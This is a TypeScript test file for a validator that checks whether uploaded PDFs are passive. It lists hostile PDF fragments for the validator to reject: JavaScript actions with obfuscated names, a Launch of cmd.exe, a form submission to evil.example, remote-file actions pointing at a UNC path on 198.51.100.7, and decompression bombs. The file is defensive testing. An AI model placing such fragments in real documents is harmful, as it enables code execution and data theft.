import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { isPassivePdf } from '../../../src/platform/files/passive-pdf.ts';
import { pdfPages } from '../../../src/platform/pdf/pages.ts';

const pdf = (body: string | Buffer): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\n%%EOF\n')]);
const compressed = (objects: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', end = '\n'): Buffer => {
  const data = deflateSync(Buffer.from(objects, 'latin1'));
  const head = `7 0 obj<<${dictionary}/Length ${data.length}>>stream${end}`;
  return pdf(Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream endobj')]));
};

it('takes what shows pages: our own, links, and objects that are compressed', async () => {
  const ours = pdfPages({ title: 'Recibo', language: 'es' });
  ours.write('Transferencia hecha', 50, 50);
  expect(isPassivePdf(await ours.done())).toBe(true);
  expect(isPassivePdf(pdf('<</Type/Catalog/OpenAction[3 0 R/Fit]>> <</S/URI/URI(https://banco.example)>>'))).toBe(true);
  expect(isPassivePdf(compressed('1 0 <</Type/Catalog/Pages 2 0 R>>'))).toBe(true);
  expect(isPassivePdf(compressed('1 0 <</Type/Page>>', '/Type/ObjStm/Filter/FlateDecode', '\r\n'))).toBe(true);
});

it.each([
  ['a script', '<</S/JavaScript/JS(app.alert(1))>>'],
  ['a script by numbers', '<</S/JavaScr#69pt/JS(x)>>'],
  ['a script by many numbers', '<</S/#4a#61#76#61#53#63#72#69#70#74>>'],
  ['a program', '<</S/Launch/F(cmd.exe)>>'],
  ['a file within it', '<</Type/EmbeddedFile>>'],
  ['a form that is sent', '<</S/SubmitForm/F(https://evil.example)>>'],
  ['a script beside a film', '<</S/Rendition/OP 0/JS(app.alert(1))>>'],
  ['what opens a file of another machine', '<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\x)/D[0/Fit]>>'],
  ['what opens a file within another', '<</S/GoToE/F(\\\\\\\\198.51.100.7\\\\x)/D[0/Fit]>>'],
  ['a thread of another file', '<</S/Thread/F(\\\\\\\\198.51.100.7\\\\x)/D 0>>'],
  ['a form of another kind', '<</AcroForm<</XFA 3 0 R>>>>'],
  ['what only a key opens', 'trailer<</Encrypt 9 0 R>>'],
])('refuses %s, also where objects are compressed', (_name, object) => {
  expect(isPassivePdf(pdf(object))).toBe(false);
  if (!object.includes('Encrypt')) expect(isPassivePdf(compressed(`1 0 ${object}`))).toBe(false);
});

it('refuses compressed objects that it cannot read', () => {
  const page = '1 0 <</Type/Page>>';
  expect(isPassivePdf(compressed(page, '/Type/#4fbjStm/Filter/FlateDecode'))).toBe(false);
  expect(isPassivePdf(compressed(page, '/Type/ObjStm/Filter[/FlateDecode/ASCIIHexDecode]'))).toBe(false);
  expect(isPassivePdf(compressed(page, '/Type/ObjStm/Filter/LZWDecode'))).toBe(false);
  expect(isPassivePdf(compressed(page, '/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>'))).toBe(false);
  expect(isPassivePdf(pdf('<</Type/ObjStm/Filter/FlateDecode>>stream\nno zlib\nendstream'))).toBe(false);
  expect(isPassivePdf(pdf('<</Type/ObjStm>>'))).toBe(false);
});

it('reads no more than it may of what unpacks to much', () => {
  expect(isPassivePdf(compressed(' '.repeat(9 * 1024 * 1024)))).toBe(false);
  expect(isPassivePdf(pdf('<</Type/ObjStm>>stream\nx\nendstream '.repeat(501)))).toBe(false);
});
